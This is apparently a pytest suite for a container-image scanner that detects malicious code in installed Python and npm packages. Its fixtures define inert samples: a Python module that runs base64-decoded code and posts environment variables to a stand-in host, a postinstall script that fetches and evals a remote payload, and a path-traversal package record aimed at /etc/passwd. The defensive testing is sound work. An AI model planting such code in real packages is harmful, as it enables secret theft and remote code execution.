"""``vet IMAGE --scan-code``: code heuristics over installed PyPI/npm packages, read from the layers.

Every payload is inert and points at hosts under example.invalid.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from chainwarden.analyzers import VetOptions, scan_installed_code, vet
from chainwarden.analyzers.packages import PackageArtifact, plan_installed_code
from chainwarden.cli import main
from chainwarden.inventory import cache_key, catalog_view, default_catalogers, wanted_by
from chainwarden.models import Ecosystem, Finding, Severity
from chainwarden.sources import open_source
from support.images import Content, dist_info, dpkg_status_entry, make_oci, make_rootfs, npm_package

SITE = "/usr/local/lib/python3.12/site-packages"

DECODE_EXEC = (
    "import base64, os, urllib.request\n"
    "exec(base64.b64decode('cHJpbnQoImluZXJ0Iik='))\n"
    "urllib.request.urlopen('https://c.example.invalid/e', data=repr(dict(os.environ)).encode())\n"
)
INSTALL_JS = (
    "const https = require('https');\n"
    "https.get('https://p.example.invalid/s', r => { let d = '';\n"
    "  r.on('data', c => d += c);\n"
    "  r.on('end', () => eval(Buffer.from(d, 'base64').toString())); });\n"
)
HOOK = ', "scripts": {"postinstall": "node install.js"}'


def base_layer() -> dict[str, Content]:
    layer: dict[str, Content] = {
        "/etc/os-release": 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n',
        "/var/lib/dpkg/status": dpkg_status_entry("bash", "5.2.15-2"),
    }
    layer.update(dist_info("tidyutil", "1.0.0", ["tidyutil/__init__.py", "tidyutil/core.py"], site=SITE))
    layer[f"{SITE}/tidyutil/core.py"] = "def tidy(s):\n    return s.strip()\n"
    layer.update(npm_package("/app", "leftpadder", "2.0.0", ["index.js"]))
    return layer


def malicious_layer() -> dict[str, Content]:
    layer: dict[str, Content] = dict(dist_info("helperkit", "0.1.0", ["helperkit/__init__.py"], site=SITE))
    layer[f"{SITE}/helperkit/__init__.py"] = DECODE_EXEC
    layer.update(npm_package("/app", "colorfmt", "1.0.1", ["index.js", "install.js"], extra=HOOK))
    layer["/app/node_modules/colorfmt/install.js"] = INSTALL_JS
    return layer


@pytest.fixture
def layout(tmp_path: Path) -> Path:
    return make_oci(tmp_path / "layout", [base_layer(), malicious_layer()])


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


def layer_digests(layout: Path) -> list[str]:
    with open_source(f"oci:{layout}") as source:
        return [layer.digest for layer in source.info.layers]


def high(findings: tuple[Finding, ...], name: str) -> list[Finding]:
    return [
        f
        for f in findings
        if f.package is not None and f.package.name == name and f.severity.rank >= Severity.HIGH.rank
    ]


def test_malicious_installed_packages_are_flagged_at_their_image_path_and_layer(layout: Path) -> None:
    scan = scan_installed_code(f"oci:{layout}")
    top_layer = layer_digests(layout)[-1]

    python_hits = high(scan.findings, "helperkit")
    assert python_hits, [f.rule_id for f in scan.findings]
    assert {f.location.path for f in python_hits if f.location} == {f"{SITE}/helperkit/__init__.py"}
    assert all(f.location is not None and f.location.layer == top_layer for f in python_hits)
    assert any(f.rule_id == "malicious-decode-exec" for f in python_hits)
    assert python_hits[0].evidence[0].startswith(f"{SITE}/helperkit/__init__.py:")
    assert python_hits[0].package is not None and python_hits[0].package.found_by == "python-installed"

    npm_hits = high(scan.findings, "colorfmt")
    assert npm_hits, [f.rule_id for f in scan.findings]
    paths = {f.location.path for f in npm_hits if f.location}
    assert paths <= {"/app/node_modules/colorfmt/install.js", "/app/node_modules/colorfmt/package.json"}
    assert "/app/node_modules/colorfmt/install.js" in paths
    assert all(f.location is not None and f.location.layer == top_layer for f in npm_hits)

    for benign in ("tidyutil", "leftpadder"):
        assert not high(scan.findings, benign)
    assert not [f for f in scan.findings if f.package is not None and f.package.ecosystem is Ecosystem.DEBIAN]
    assert {r.package.name for r in scan.reports} == {"tidyutil", "leftpadder", "helperkit", "colorfmt"}
    assert scan.files_read >= 8 and scan.skipped == ()


def test_vet_without_scan_code_reads_no_code(layout: Path) -> None:
    result = vet([f"oci:{layout}"], options=VetOptions(offline=True))
    assert not high(result.findings, "helperkit") and result.artifacts_scanned == 0
    scanned = vet([f"oci:{layout}"], options=VetOptions(offline=True, scan_code=True))
    assert high(scanned.findings, "helperkit") and high(scanned.findings, "colorfmt")
    assert scanned.artifacts_scanned == 4 and scanned.packages_checked == 4


def test_ignore_lists_and_config_apply_to_image_findings(layout: Path) -> None:
    options = VetOptions(offline=True, scan_code=True, ignore=("*:helperkit", "*:colorfmt"))
    result = vet([f"oci:{layout}"], options=options)
    assert not high(result.findings, "helperkit") and not high(result.findings, "colorfmt")


def test_cli_scan_code_fails_on_high(layout: Path, capsys: pytest.CaptureFixture[str]) -> None:
    args = ["vet", f"oci:{layout}", "--scan-code", "--offline", "-f", "json"]
    assert main([*args, "--fail-on", "high"]) == 1
    report = json.loads(capsys.readouterr().out)
    text = json.dumps(report)
    assert f"{SITE}/helperkit/__init__.py" in text and "/app/node_modules/colorfmt/install.js" in text
    assert "tidyutil/core.py" not in text
    assert main(["vet", f"oci:{layout}", "--offline", "--fail-on", "high", "-f", "json"]) == 0
    capsys.readouterr()


def test_cli_benign_image_passes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    clean = make_oci(tmp_path / "clean", [base_layer()])
    assert main(["vet", f"oci:{clean}", "--scan-code", "--offline", "--fail-on", "high", "-f", "json"]) == 0
    capsys.readouterr()


def test_nested_node_modules_belong_to_their_own_package(tmp_path: Path) -> None:
    layer = base_layer()
    layer.update(npm_package("/app/node_modules/leftpadder", "inner-evil", "0.0.1", ["index.js", "install.js"], HOOK))
    layer["/app/node_modules/leftpadder/node_modules/inner-evil/install.js"] = INSTALL_JS
    scan = scan_installed_code(f"oci:{make_oci(tmp_path / 'nested', [layer])}")
    assert high(scan.findings, "inner-evil") and not high(scan.findings, "leftpadder")


def test_debian_shipped_npm_modules_only_with_the_flag(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    layer = base_layer()
    layer["/usr/share/nodejs/debmod/package.json"] = '{"name": "debmod", "version": "1.0.0"' + HOOK + "}"
    layer["/usr/share/nodejs/debmod/install.js"] = INSTALL_JS
    image = make_oci(tmp_path / "deb", [layer])
    assert not high(scan_installed_code(f"oci:{image}").findings, "debmod")
    assert high(scan_installed_code(f"oci:{image}", include_distro=True).findings, "debmod")
    base = ["vet", f"oci:{image}", "--scan-code", "--offline", "--fail-on", "high", "-f", "json"]
    assert main(base) == 0
    assert main([*base, "--scan-distro-packages"]) == 1
    capsys.readouterr()


def test_rootfs_directory_and_dir_scheme(tmp_path: Path) -> None:
    root = tmp_path / "rootfs"
    files = {**base_layer(), **malicious_layer()}
    make_rootfs(root, {k: v for k, v in files.items() if isinstance(v, str | bytes)})
    for target in (str(root), f"dir:{root}"):
        result = vet([target], options=VetOptions(offline=True, scan_code=True))
        hits = high(result.findings, "helperkit")
        assert hits and hits[0].location is not None and hits[0].location.path == f"{SITE}/helperkit/__init__.py"
        assert not high(result.findings, "tidyutil")


def test_oversized_files_are_counted_not_read(tmp_path: Path) -> None:
    layer = base_layer()
    layer[f"{SITE}/tidyutil/core.py"] = "x = 1\n" * 2000  # 12 kB
    image = make_oci(tmp_path / "big", [layer])
    with open_source(f"oci:{image}") as source:
        catalogers = default_catalogers(is_image=True)
        view = source.view(wanted_by(catalogers), None, cache_key(catalogers))
        inventory = catalog_view(view, source.info, catalogers, is_image=True)
    plans = {p.package.name: p for p in plan_installed_code(view, inventory.packages, max_file_bytes=4096)}
    assert plans["tidyutil"].too_large == 1
    assert f"{SITE}/tidyutil/core.py" not in plans["tidyutil"].paths.values()
    assert "tidyutil/__init__.py" in plans["tidyutil"].paths
    tight = {p.package.name: p for p in plan_installed_code(view, inventory.packages, max_total_bytes=40)}
    assert sum(p.over_budget for p in tight.values()) > 0
    assert "bash" not in plans  # Debian packages only with include_distro


def test_hostile_package_metadata_does_not_break_the_scan(tmp_path: Path) -> None:
    layer = base_layer()
    layer["/app/node_modules/broken/package.json"] = "{not json"
    escaper = dist_info("escaper", "1.0", ["../../../../../etc/passwd", "escaper/x.py"], site=SITE)
    layer.update({path: content for path, content in escaper.items() if ".." not in path})  # RECORD keeps it
    layer["/etc/passwd"] = "root:x:0:0:root:/root:/bin/bash\n"
    scan = scan_installed_code(f"oci:{make_oci(tmp_path / 'hostile', [layer])}")
    assert {r.package.name for r in scan.reports} >= {"tidyutil", "escaper"}
    assert any("package.json" in s.what for s in scan.inventory.skipped)


def test_artifact_from_in_memory_files() -> None:
    artifact = PackageArtifact.from_files(
        "mem",
        [("package.json", b'{"name": "demo", "version": "1.2.3"}'), ("logo.png", b"\x89PNG" + b"\x00" * 200)],
    )
    assert (artifact.ecosystem, artifact.name, artifact.version, artifact.kind) == (
        Ecosystem.NPM,
        "demo",
        "1.2.3",
        "installed",
    )
    png = artifact.file("logo.png")
    assert png is not None and png.size == 204 and len(png.data) == 64 and not png.complete
